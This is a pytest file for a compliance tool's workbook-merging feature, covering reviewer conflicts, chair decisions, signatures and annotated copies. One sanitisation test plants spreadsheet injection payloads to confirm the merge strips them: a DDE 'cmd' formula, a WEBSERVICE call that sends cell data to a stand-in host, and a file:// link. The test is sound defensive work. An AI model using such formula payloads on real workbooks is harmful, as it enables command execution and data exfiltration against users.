"""The merged workbook and the annotated copies: built anew, with reviewers' cells alone."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from support.gap_reports import (
    PROFILE,
    Reviewing,
    cell_of,
    fill,
    filled,
    gap_report,
    library_in,
    pin,
)
from support.workbooks import links_of, texts_of

from compliance.library.library import Library
from compliance.workbook import schema as form
from compliance.workbook.merging import Place
from compliance.workbook.review.copies import read_copy
from compliance.workbook.review.returned import annotated, merged_workbook
from compliance.workbook.review.review import Review, review

ANA = ("Findings", "T-1.2", {"opinion": "agree", "comment": "See art. 5", "name": "Ana"})
BEN = ("Findings", "T-1.2", {"opinion": "disagree", "comment": "Repealed", "name": "Ben"})


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Library:
    return library_in(tmp_path_factory.mktemp("layer"))


@pytest.fixture
def report(library: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return gap_report(Path("report.xlsx"), library)


def reviewed(library: Library, *paths: Path) -> Review:
    return review([read_copy(path, library) for path in paths], library)


def merged(library: Library, *paths: Path, name: str = "merged.xlsx") -> Workbook:
    Path(name).write_bytes(merged_workbook(reviewed(library, *paths)))
    return load_workbook(name)


def outcome(library: Library, *paths: Path) -> tuple[Any, ...]:
    found = reviewed(library, *paths)
    cells = {p: (c.values, c.is_conflict, c.entries) for p, c in found.cells.items() if c.entries}
    return cells, found.decided, {(n.author, n.text) for n in found.notes}, found.signatures


def both(report: Path) -> tuple[Path, Path]:
    """Two copies that differ, with notes and signatures."""
    with Reviewing(filled(report, "a.xlsx", ANA), "a.xlsx") as book:
        pin(cell_of(book, "Findings", "T-1.2", "opinion"), "Sure?", "Ana")
        pin(book["Findings"]["A2"], "Odd title", "Ana")
        book[form.SIGNED].append(["Ana", "Ministry", "2 January 2012", "Well done"])
    with Reviewing(filled(report, "b.xlsx", BEN), "b.xlsx") as book:
        pin(cell_of(book, "Findings", "T-1.2", "opinion"), "No.", "Ben")
        book[form.SIGNED].append(["Ben", None, None, "To be revised"])
        fill(book, "Findings", "T-1.2", date=date(2012, 1, 3))
    return Path("a.xlsx"), Path("b.xlsx")


def test_cells_that_differ_are_empty_and_a_note_says_who_wrote_what(
    library: Library, report: Path
) -> None:
    book = merged(library, *both(report))
    cell = cell_of(book, "Findings", "T-1.2", "opinion")
    assert cell.value is None
    text = cell.comment.text
    assert f"Ana: agree (a.xlsx, Findings!{cell.coordinate})" in text
    assert f"Ben: disagree (b.xlsx, Findings!{cell.coordinate})" in text
    assert "Ana: Sure?" in text
    assert "Ben: No." in text
    assert cell_of(book, "Findings", "T-1.2", "comment").value == "Ana: See art. 5\nBen: Repealed"
    assert cell_of(book, "Findings", "T-1.2", "name").value == "Ana; Ben"
    assert cell_of(book, "Findings", "T-1.2", "date").value == "2012-01-03"
    rules = [r for f in book["Findings"].conditional_formatting for r in f.rules]
    assert [rule.formula for rule in rules] == [[f"ISBLANK({cell.coordinate})"]]


def test_the_first_sheet_says_it_all_with_links_and_the_signatures_follow(
    library: Library, report: Path
) -> None:
    book = merged(library, *both(report))
    assert book.sheetnames[:3] == ["Review", "Findings", form.SIGNED]
    told = "\n".join(texts_of(book["Review"]))
    assert "Reviewers differ: 1 cell, left empty in the merged workbook" in told
    assert "Ana: “agree” (a.xlsx" in told
    cell = cell_of(book, "Findings", "T-1.2", "opinion").coordinate
    assert f"'Findings'!{cell}" in links_of(book["Review"]).values()
    rows = [[cell.value for cell in row] for row in book[form.SIGNED].iter_rows(min_row=2)]
    assert rows[:2] == [
        ["Ana", "Ministry", "2012-01-02", "Well done"],
        ["Ben", None, None, "To be revised"],
    ]


def test_the_same_copies_make_the_same_bytes_and_their_order_no_difference(
    library: Library, report: Path
) -> None:
    one, two = both(report)
    found = merged_workbook(reviewed(library, one, two))
    assert merged_workbook(reviewed(library, one, two)) == found
    Path("m.xlsx").write_bytes(found)
    merged(library, two, one, name="n.xlsx")
    assert outcome(library, Path("m.xlsx")) == outcome(library, Path("n.xlsx"))


def test_a_merged_workbook_says_the_same_as_its_copies_alone_and_with_them(
    library: Library, report: Path
) -> None:
    copies = both(report)
    merged(library, *copies)
    expected = outcome(library, *copies)
    assert outcome(library, Path("merged.xlsx")) == expected
    assert outcome(library, Path("merged.xlsx"), *copies) == expected
    merged(library, Path("merged.xlsx"), name="again.xlsx")
    assert outcome(library, Path("again.xlsx")) == expected
    assert read_copy(Path("again.xlsx"), library).remarks == ()


def test_who_decides_is_in_the_record_beside_those_who_were_overruled(
    library: Library, report: Path
) -> None:
    copies = both(report)
    merged(library, *copies)
    with Reviewing(Path("merged.xlsx"), "chair.xlsx") as book:
        fill(book, "Findings", "T-1.2", opinion="agree in part", name="Chair")
    found = reviewed(library, Path("chair.xlsx"), *copies)
    assert found.conflicts == ()
    (opinion,) = found.decided
    assert [(e.author, e.value) for e in opinion.entries] == [("Chair", "agree in part")]
    assert [(e.author, e.value) for e in opinion.settled] == [("Ana", "agree"), ("Ben", "disagree")]
    assert {kind: n for kind, n in found.opinions.items() if n} == {
        "agree": 1,
        "agree in part": 1,
        "disagree": 1,
    }
    (comment,) = [c for p, c in found.cells.items() if p.field == "comment" and c.entries]
    assert comment.authors == ("Ana", "Ben")
    book = merged(library, Path("chair.xlsx"), *copies, name="last.xlsx")
    assert outcome(library, Path("last.xlsx")) == outcome(library, Path("chair.xlsx"), *copies)
    told = "\n".join(texts_of(book["Review"]))
    assert "Decided: 1 cell that reviewers had filled in before" in told
    assert "Ben: “disagree” (b.xlsx" in told
    assert "decided: “agree in part” (Chair)" in told


def test_a_decision_without_a_name_is_nobodys_though_a_copy_was_signed(
    library: Library, report: Path
) -> None:
    with Reviewing(filled(report, "a.xlsx", ANA), "a.xlsx") as book:
        book[form.SIGNED].append(["Ana", "Ministry", "2 January 2012", "Well done"])
    merged(library, Path("a.xlsx"), filled(report, "b.xlsx", BEN))
    with Reviewing(Path("merged.xlsx"), "decided.xlsx") as book:
        fill(book, "Findings", "T-1.2", opinion="cannot tell")
        pin(cell_of(book, "Findings", "T-1.3a", "opinion"), "Odd", "Unknown Author")
    nobody = "no name (decided.xlsx)"
    found = reviewed(library, Path("decided.xlsx"))
    (opinion,) = found.decided
    assert opinion.authors == (nobody,)
    assert [note.author for note in found.notes] == [nobody]
    (remark,) = found.copies[0].remarks
    assert f"1 row has no name, and nobody signed since; written down as “{nobody}”" in remark
    (signature,) = found.signatures
    assert (signature.name, signature.file) == ("Ana", "a.xlsx")
    with Reviewing(Path("decided.xlsx"), "signed.xlsx") as book:
        book[form.SIGNED].append(["Chair", None, None, None])
    (opinion,) = reviewed(library, Path("signed.xlsx")).decided
    assert opinion.authors == ("Chair",)


def test_a_late_copy_hides_no_earlier_opinion(library: Library, report: Path) -> None:
    merged(library, *both(report))
    chair = ("Findings", "T-1.2", {"opinion": "agree in part", "name": "Chair"})
    filled(Path("merged.xlsx"), "chair.xlsx", chair)
    late = filled(report, "late.xlsx", ("Findings", "T-1.2", {"opinion": "agree", "name": "Dora"}))
    book = merged(library, Path("chair.xlsx"), late, name="again.xlsx")
    told = "\n".join(texts_of(book["Review"]))
    for words in (
        "Chair: “agree in part” (chair.xlsx, Findings!D2)",
        "Dora: “agree” (late.xlsx, Findings!D2)",
        "Ana: “agree” (a.xlsx, Findings!D2), decided upon before",
        "Ben: “disagree” (b.xlsx, Findings!D2), decided upon before",
    ):
        assert words in told
    note = cell_of(book, "Findings", "T-1.2", "opinion").comment.text
    assert "Decided upon before:\nAna: agree (a.xlsx, Findings!D2)" in note


def test_one_opinion_that_was_written_over_is_told(library: Library, report: Path) -> None:
    merged(library, filled(report, "a.xlsx", ANA))
    chair = ("Findings", "T-1.2", {"opinion": "disagree", "name": "Chair"})
    filled(Path("merged.xlsx"), "chair.xlsx", chair)
    told = "\n".join(texts_of(merged(library, Path("chair.xlsx"), name="last.xlsx")["Review"]))
    assert "Ana: “agree” (a.xlsx, Findings!D2)" in told
    assert "decided: “disagree” (Chair)" in told


def test_a_comment_has_its_author_beside_two_names(library: Library, report: Path) -> None:
    ben = ("Findings", "T-1.2", {"opinion": "agree", "name": "Ben"})
    book = merged(library, filled(report, "a.xlsx", ANA), filled(report, "b.xlsx", ben))
    assert cell_of(book, "Findings", "T-1.2", "name").value == "Ana; Ben"
    assert cell_of(book, "Findings", "T-1.2", "comment").value == "Ana: See art. 5"


def test_a_decision_to_say_nothing_settles_too(library: Library, report: Path) -> None:
    merged(library, *both(report))
    with Reviewing(Path("merged.xlsx"), "chair.xlsx") as book:
        fill(book, "Findings", "T-1.2", opinion="(clear)")
    found = reviewed(library, Path("chair.xlsx"), Path("a.xlsx"))
    (cell,) = found.decided
    assert (cell.place.field, cell.entries) == ("opinion", ())


def test_rows_columns_and_sheets_gone_in_one_copy_are_there_again(
    library: Library, report: Path
) -> None:
    filled(report, "b.xlsx", BEN, ("Findings", "T-1.3a", {"comment": "Old", "name": "Ben"}))
    with Reviewing(filled(report, "a.xlsx", ANA), "a.xlsx") as book:
        book["Findings"].delete_rows(3)
        book["Findings"].delete_cols(cell_of(book, "Findings", "T-1.2", "date").column)
        del book.defined_names["Findings_date"]
        del book[form.SIGNED]
    for order in ((Path("a.xlsx"), Path("b.xlsx")), (Path("b.xlsx"), Path("a.xlsx"))):
        expected = outcome(library, *order)[0]
        book = merged(library, *order)
        assert cell_of(book, "Findings", "T-1.3a", "comment").value == "Ben: Old"
        assert outcome(library, Path("merged.xlsx"))[0] == expected


def test_nothing_of_a_copy_but_reviewers_cells_is_passed_on(library: Library, report: Path) -> None:
    with Reviewing(filled(report, "a.xlsx", ANA), "a.xlsx") as book:
        sheet = book["Findings"]
        sheet["B2"].value = "● met (FORGED)"
        sheet["Z9"].value = '=WEBSERVICE("http://example.org/"&A2)'
        sheet["A2"].hyperlink = "file:///secret"
        sheet.merge_cells("A2:A3")
        book["Clauses"]["A2"].value = "=cmd|'/C calc'!A0"
        comment = cell_of(book, "Findings", "T-1.3a", "comment")
        comment.value, comment.data_type = "=SUM(1)", "s"
        sheet["A1048576"].value = "far"
    book = merged(library, Path("a.xlsx"))
    with ZipFile("merged.xlsx") as package:
        whole = b"\n".join(map(package.read, package.namelist())).decode("utf-8", "replace")
    sheets = [s for s in book if s.title != "Review"]
    for secret in ("FORGED", "WEBSERVICE", "calc", "far"):
        assert not [text for sheet in sheets for text in texts_of(sheet) if secret in text]
    for part in ("file:///secret", "<f>", "mergeCell", 'TargetMode="External"'):
        assert part not in whole
    assert book["Findings"]["B2"].value == "○ not met"
    assert "Findings!B2: “● met (FORGED)”" in "\n".join(texts_of(book["Review"]))
    comment = cell_of(book, "Findings", "T-1.3a", "comment")
    assert (comment.value, comment.data_type) == ("no name (a.xlsx): =SUM(1)", "s")


def test_an_annotated_copy_marks_every_faulty_cell_and_lists_what_was_not_read(
    library: Library, report: Path
) -> None:
    with Reviewing(report, "a.xlsx") as book:
        fill(book, "Findings", "T-1.2", opinion="agre", comment="Fine", date="3/4/2012")
        book["Findings"]["Z3"].value = "mine"
        book[form.SIGNED].append(["Ana", "", "yesterday", ""])
    before = Path("a.xlsx").read_bytes()
    Path("marked.xlsx").write_bytes(annotated(read_copy(Path("a.xlsx"), library)))
    assert Path("a.xlsx").read_bytes() == before
    book = load_workbook("marked.xlsx")
    opinion = cell_of(book, "Findings", "T-1.2", "opinion")
    assert (opinion.value, opinion.comment.text) == (
        "agre",
        "[[compliance: “agre” is no opinion that can be chosen. Did you mean “agree”?]]",
    )
    assert cell_of(book, "Findings", "T-1.2", "comment").value == "Fine"
    day = cell_of(book, "Findings", "T-1.2", "date")
    assert (day.value, bool(day.comment)) == ("3/4/2012", True)
    assert book[form.SIGNED]["C2"].value == "yesterday"
    told = "\n".join(texts_of(book["Review"]))
    assert "What could not be read: 3 places" in told
    assert "`yesterday` is no day" in told
    assert "Findings!Z3: “mine” was written into a cell" in told


def test_an_annotated_copy_that_was_mended_is_as_good_as_new(
    library: Library, report: Path
) -> None:
    filled(report, "a.xlsx", ("Findings", "T-1.2", {"opinion": "agre"}))
    Path("marked.xlsx").write_bytes(annotated(read_copy(Path("a.xlsx"), library)))
    mended = filled(Path("marked.xlsx"), "mended.xlsx", ANA)
    found = reviewed(library, mended)
    assert (found.notes, found.copies[0].problems) == ((), ())
    place = Place("Findings", f"{PROFILE} T-1.2", "opinion")
    assert reviewed(library, mended, report).cells[place].value == "agree"
